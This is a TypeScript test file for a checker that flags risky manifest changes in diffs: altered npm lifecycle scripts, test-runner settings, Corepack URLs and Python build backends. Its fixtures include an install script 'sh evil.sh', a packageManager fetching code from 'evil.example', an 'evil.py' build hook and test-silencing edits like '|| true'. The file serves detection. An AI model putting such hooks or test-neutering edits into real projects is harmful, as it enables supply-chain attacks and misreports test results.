import { describe, expect, test } from "vitest";
import { specMentions } from "./spec-mentions.ts";
import { inWords } from "./finding.ts";
import { manifestFindings } from "./manifest.ts";

const OLD = { name: "a", scripts: { test: "node --test", build: "tsc" }, jest: { bail: true } };
const npm = (now: unknown, spec = "") =>
  findings("package.json", JSON.stringify(OLD), typeof now === "string" ? now : JSON.stringify(now), spec);
const findings = (path: string, before: string | null, after: string | null, spec = "") =>
  manifestFindings({ path, status: "M", before, after }, specMentions(spec))
    .filter(({ level }) => level === "warning")
    .map(inWords);

describe("package.json", () => {
  test("scripts that existed before", () => {
    const changed = 'package.json: changes existing scripts: "test"';
    expect(npm({ ...OLD, scripts: { ...OLD.scripts, test: "node --test || true" } })).toEqual([changed]);
    expect(npm({ ...OLD, scripts: { build: "tsc" } })).toEqual([changed]);
    expect(npm({ ...OLD, scripts: { ...OLD.scripts, pretest: "rm -r test" } })).toEqual([changed.replace("test", "pretest")]);
    expect(npm({ name: "a", jest: OLD.jest })[0]).toContain('"test", "build"');
  });

  test("the configuration of a test runner", () => {
    expect(npm({ ...OLD, jest: { bail: false } })).toEqual(['package.json: changes how tests are run: "jest"']);
    expect(npm({ ...OLD, c8: {} })).toEqual(['package.json: changes how tests are run: "c8"']);
  });

  test("but not dependencies, new scripts or order", () => {
    expect(npm({ ...OLD, dependencies: { b: "1" } })).toEqual([]);
    expect(npm({ ...OLD, scripts: { start: "node .", ...OLD.scripts } })).toEqual([]);
  });

  test("changes that the specification names are allowed; an unreadable manifest never is", () => {
    expect(npm({ ...OLD, scripts: {} }, "Change the scripts in package.json.")).toEqual([]);
    expect(npm("{")).toEqual(["package.json: cannot be read as JSON"]);
    expect(npm("[1]")).toHaveLength(2);
  });

  test("a new package runs what it depends on, and a deleted one nothing", () => {
    expect(findings("packages/b/package.json", null, "{}")).toEqual([
      "packages/b/package.json: adds a package: npm, pnpm or Yarn runs the install scripts of what it depends on",
    ]);
    expect(findings("packages/b/package.json", null, "{}", "Add packages/b/package.json.")).toEqual([]);
    expect(findings("package.json", "{}", null)).toEqual([]);
  });

  test.each(["preinstall", "install", "postinstall", "prepare", "prepublish", "dependencies"])("%s runs at each install", (script) => {
    const told = `the script "${script}": npm, pnpm or Yarn runs it at each install`;
    expect(npm({ ...OLD, scripts: { ...OLD.scripts, [script]: "sh evil.sh" } })).toEqual([`package.json: changes ${told}`]);
    expect(findings("a/b/Package.json", null, JSON.stringify({ scripts: { [script]: "x" } }))).toEqual([`a/b/Package.json: adds ${told}`]);
  });

  test("a lifecycle script that was there before is told once", () => {
    const before = JSON.stringify({ scripts: { postinstall: "a", install: "b" } });
    const after = (scripts: object) => findings("package.json", before, JSON.stringify({ scripts }));
    expect(after({ postinstall: "c", install: "b" })).toEqual([
      'package.json: changes the script "postinstall": npm, pnpm or Yarn runs it at each install',
    ]);
    expect(after({ install: "b" })).toEqual(['package.json: changes existing scripts: "postinstall"']);
  });

  test("fields that name hooks, or programs to fetch", () => {
    expect(npm({ ...OLD, packageManager: "yarn@https://evil.example/yarn.js" })).toEqual([
      'package.json: changes "packageManager": Corepack fetches and runs it in each command',
    ]);
  });
});

describe("the build of a Python project", () => {
  const told = "pyproject.toml: changes how it is built: pip runs the build at each installation";
  const usual = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';

  test.each([
    ["a backend of its own", usual, `${usual}backend-path = ["."]\n`],
    ["another backend", usual, usual.replaceAll("hatchling", "evil")],
    ["a hook", usual, `${usual}[tool.hatch.build.hooks.custom]\npath = "evil.py"\n`],
    ["a backend in one line", "[project]\n", 'build-system = { build-backend = "evil", backend-path = ["."] }\n[project]\n'],
    ["a quoted section", "[project]\n", '["build-system"]\nbackend-path = ["."]\n'],
    ["a new project with a backend of its own", null, `${usual}backend-path = ["."]\n`],
  ])("%s", (_what, before, after) => {
    expect(findings("pyproject.toml", before, after)).toEqual([told]);
  });

  test("not a usual new project, and not its dependencies", () => {
    expect(findings("pyproject.toml", null, `[project]\nname = "a"\n${usual}`)).toEqual([]);
    expect(findings("pyproject.toml", usual, `${usual}[project]\ndependencies = ["b"]\n`)).toEqual([]);
  });
});

test("sections of Python's configuration", () => {
  const old = '[project]\nname = "a"\n[tool.pytest.ini_options]\naddopts = "-q"\n';
  expect(findings("pyproject.toml", old, old.replace("-q", "-k nothing"))).toEqual([
    "pyproject.toml: changes how tests and checks are run",
  ]);
  expect(findings("pyproject.toml", old, old.replace('"a"', '"b"'))).toEqual([]);
  expect(findings("setup.cfg", "[flake8]\nmax = 1\n", "[flake8]\nmax = 2\n")).toHaveLength(1);
  expect(findings("other.toml", old, "")).toEqual([]);
});
